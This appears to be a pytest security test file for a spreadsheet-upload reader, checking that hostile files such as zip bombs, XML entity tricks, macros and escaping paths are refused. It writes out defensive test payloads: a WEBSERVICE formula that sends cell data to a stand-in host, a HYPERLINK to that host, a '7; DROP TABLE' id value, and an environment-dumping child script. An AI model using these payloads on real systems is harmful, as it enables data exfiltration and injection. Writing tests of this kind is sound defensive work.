"""Sheets made to hurt, or only saved by the wrong program: each with a plain sentence.

The files are those of ``tests/security/hostile_files.py``, read as sheets of copy.
"""

import io
import json
import re
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from messaging.sharing import read_apart
from messaging.sharing.read_apart import HEAVY, read_sheets
from messaging.sharing.sheet_cells import MOST_MERGED
from personas.listening.apart import CPU_SECONDS, MEMORY_BYTES
from personas.listening.tables import UnreadableFileError
from tests.messaging.sharing.returned import changed, column, put, read, rows_in, rsa, table
from tests.messaging.sharing.test_workbook import make_line, saved
from tests.security.hostile_files import PLAIN, REFUSED, TAKEN, workbook

HERO = "Web hero"
SLOW_MACHINE = 1.5
LOOKED_AT = (
    "a sheet that unpacks to 400 MB",
    "strings that unpack to 400 MB",
    "a cell of 200 MB",
    "a size it only says it has",
    "values from other files",
    "a million tags with a prefix",
    "a size that is a lie",
    "one cell at the far corner",
    "members that overlap",
    "entities in entities",
    "an entity of another file",
    "a sheet outside the zip",
    "100,000 members",
    "macros",
    "encrypted",
    "the old format by another name",
    "a program",
    "cut off",
    "no workbook inside",
    "a table without end",
    "a million empty rows",
    "JSON within JSON",
)
SAID = {"a sheet outside the zip": "damaged|nothing in this file"}
"""Where a sheet of copy is refused in other words than a table of quotes."""


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Any]]:
    """What each hostile file took and was told, and the most memory any of them took."""
    folder = str(tmp_path_factory.mktemp("hostile"))
    command = [sys.executable, "-m", "tests.security.read_hostile", folder]
    subprocess.run([*command, "make", *LOOKED_AT], check=True)
    told = subprocess.run([*command, "sheets"], capture_output=True, check=True, text=True).stdout
    *lines, last = map(json.loads, told.splitlines())
    return {line["name"]: line for line in lines} | {"": last}


def refused(content: bytes, name: str = "copy.xlsx") -> str:
    with pytest.raises(UnreadableFileError) as caught:
        list(read(content, name).rows)
    return str(caught.value)


@pytest.mark.parametrize("name", LOOKED_AT)
def test_it_is_refused_with_a_plain_reason(name: str, corpus: dict[str, dict[str, Any]]) -> None:
    told = corpus[name]["reason"]
    assert re.search(SAID.get(name, REFUSED[name][0]), told or "it was read"), told
    assert len(told) < 250
    assert not any(word in told for word in ("Traceback", "Error", "/", "0x", "quote"))
    assert corpus[name]["cpu"] <= CPU_SECONDS * SLOW_MACHINE


def test_no_refusal_takes_more_memory_than_is_given(corpus: dict[str, dict[str, Any]]) -> None:
    assert corpus[""]["most_mb"] <= MEMORY_BYTES // 2**20


@pytest.mark.parametrize("make", TAKEN.values(), ids=TAKEN.keys())
def test_what_is_hostile_in_it_is_not_followed(make: Callable[[], bytes], tmp_path: Path) -> None:
    """Names that climb out of the zip, formulas that fetch, and rows that are only formatted."""
    (tmp_path / "upload").write_bytes(make())
    sheets = read_sheets(tmp_path / "upload", "copy.xlsx")
    told = [line for sheet in sheets.sheets for line in sheets.rows(sheet)]
    assert 1 <= len(told) <= 3
    assert "evil" not in str(told)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["upload"]
    sheets.close()


def test_a_formula_that_fetches_leaves_no_more_than_its_last_result() -> None:
    fetching = '=WEBSERVICE("http://evil.example/?"&A2)'
    (row,) = rows_in(changed(lambda book: put(book[HERO], "Headline", fetching), make_line()))
    assert "evil" not in str(row.parts)
    assert [(fault.code, fault.blocks) for fault in row.faults] == [("formula", True)]


@pytest.mark.parametrize(
    "typed", ['=HYPERLINK("http://evil.example","Tea")', "@SUM(A1)", "+1", "-1"]
)
def test_what_only_looks_like_a_formula_comes_in_and_leaves_as_text(typed: str) -> None:
    def as_text(book: Any) -> None:
        put(book[HERO], "Headline", typed)
        cell = book[HERO].cell(2, column(book[HERO], "Headline"))
        cell.data_type, cell.quotePrefix = "s", True

    (row,) = rows_in(changed(as_text, make_line()))
    assert (row.parts["headline"], row.faults) == (typed, ())
    again = saved(make_line(parts=row.parts))
    cell = next(
        cell
        for cells in openpyxl.load_workbook(io.BytesIO(again))[HERO].iter_rows(min_row=2)
        for cell in cells
        if cell.value == typed
    )
    assert cell.data_type == "s"
    assert rows_in(again)[0].parts["headline"] == typed


def test_an_open_document_sheet_is_told_from_a_workbook() -> None:
    member = "application/vnd.oasis.opendocument.spreadsheet"
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("mimetype", member)
        archive.writestr("content.xml", "<x/>")
    assert "Save it as XLSX" in refused(file.getvalue(), "copy.ods")


@pytest.mark.parametrize("start", [b"%PDF-1.7", b"\x89PNG\r\n", b"{\\rtf1"])
def test_a_picture_or_a_page_is_no_sheet(start: bytes) -> None:
    assert "no spreadsheet" in refused(start + b"x" * 100)


@pytest.mark.parametrize("start", ["<!DOCTYPE html>\n<table>", " <html>", "<?xml version='1.0'?>"])
def test_a_web_page_named_like_a_table_is_told(start: str) -> None:
    page = f"{start}<tr><td>Key</td><td>Headline</td></tr>".encode()
    assert "web page or XML" in refused(page, "copy.xls")


def test_more_merged_areas_than_a_table_has_are_refused() -> None:
    areas = "".join(f'<mergeCell ref="A{n}:B{n}"/>' for n in range(2, MOST_MERGED + 4))
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{PLAIN}</sheetData><mergeCells>{areas}</mergeCells></worksheet>"
    )
    assert "merged areas" in refused(workbook(sheet=sheet))


def test_a_title_merged_over_the_whole_sheet_hurts_nothing() -> None:
    def merge(book: Any) -> None:
        book[HERO].insert_rows(1)
        book[HERO]["A1"] = "Our copy"
        book[HERO].merge_cells("A1:XFD1")

    (row,) = rows_in(changed(merge, make_line()))
    assert (row.parts, row.faults) == (make_line().parts, ())


@pytest.mark.parametrize("encoding", ["cp1252", "utf-16", "utf-8-sig", "mac_roman"])
def test_usual_encodings_are_told_apart(encoding: str) -> None:
    lines = [["key", "channel", "headline"]]
    lines += [[f"a-{n}", "web_hero", "Grüße für müde Käufer, „heute“"] for n in range(20)]
    content = table(lines).decode().encode(encoding)
    rows = rows_in(content, "copy.csv")
    assert rows[3].parts == {"headline": "Grüße für müde Käufer, „heute“"}
    assert rows[3].faults == ()


def test_letters_saved_in_the_wrong_encoding_are_a_fault_of_their_cell() -> None:
    content = table([["key", "channel", "headline"], ["a-1", "web_hero", "FÃ¼r heute"]])
    (row,) = rows_in(content, "copy.csv")
    assert [(fault.part, fault.code, fault.blocks) for fault in row.faults] == [
        ("headline", "encoding", True)
    ]


def test_double_ids_and_sheets_of_one_name_are_handed_on_row_by_row() -> None:
    rows = rows_in(saved(make_line(), make_line(parts={"headline": "B", "button": "C"})))
    assert [(row.number, row.variant_id) for row in rows] == [(2, 7), (3, 7)]


@pytest.mark.parametrize("value", [2**63, "9" * 400, "1e308", "-1", "7; DROP TABLE", "٧"])
def test_an_id_that_no_database_holds_is_none(value: object) -> None:
    (row,) = rows_in(changed(lambda book: put(book[HERO], "Id", str(value)), make_line()))
    assert row.variant_id is None
    assert [fault.code for fault in row.faults] == ["id"]


def test_odd_letters_in_names_and_texts_do_not_reach_the_database() -> None:
    content = json.dumps(
        [{"key": "a\u0000-1", "channel": "web_hero", "parts": {"headline": "A\u0000B\ufeff"}}]
    ).encode()
    (row,) = rows_in(content, "copy.json")
    assert row.parts == {"headline": "AB"}
    assert "\x00" not in row.key


def test_lists_within_lists_are_no_texts() -> None:
    deep: Any = "x"
    for _ in range(200):
        deep = [deep]
    content = json.dumps([{"key": "a", "channel": "google_rsa", "parts": {"headlines": deep}}])
    (row,) = rows_in(content.encode(), "copy.json")
    assert [fault.code for fault in row.faults] == ["list"]


def test_a_reader_that_breaks_is_a_refusal(monkeypatch: pytest.MonkeyPatch) -> None:
    start = read_apart.CHILD.split("import os")[0]
    for crash in ("import os; os.abort()", "print('no JSON')", "print('{}')", "print('[1,2,3]')"):
        monkeypatch.setattr(read_apart, "CHILD", start + crash)
        assert refused(saved(make_line())) == HEAVY


def test_the_other_process_knows_no_secret(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DATABASE_URL", "postgresql://user:hunter2@db/cuppa")
    tell = (
        "import json, os, sys; print(json.dumps({'refused': str(dict(os.environ))})); sys.exit(3)"
    )
    monkeypatch.setattr(read_apart, "CHILD", tell)
    told = refused(saved(make_line()))
    assert "PYTHONUTF8" in told
    assert "hunter2" not in told


def test_what_another_workspace_sent_says_so() -> None:
    back = read(saved(make_line(), rsa(), channels=("web_hero", "google_rsa")))
    assert back.workspace == "tea-and-sons"  # whose it is, is judged where ours are known
